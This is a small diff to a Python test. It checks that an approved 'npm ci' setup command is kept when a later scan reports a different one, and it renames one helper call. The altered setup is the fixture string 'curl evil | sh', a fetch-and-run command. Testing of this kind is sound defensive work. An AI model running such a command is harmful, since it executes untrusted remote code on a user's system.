@@ -344,7 +344,7 @@ def test_the_set_up_that_is_found_is_shown_and_approved_with_the_plan() -> None:
     assert "npm ci" in str(lay_out(card))
     # what a base brings that moved after the approval has been seen by nobody
     moved = Scan(commit="c" * 40, set_up="curl evil | sh")
-    session.repository.scan = test_command.as_approved(session, moved)
+    session.repository.scan = test_command.with_approved_command(session, moved)
     assert session.repository.set_up == "npm ci"
 
 
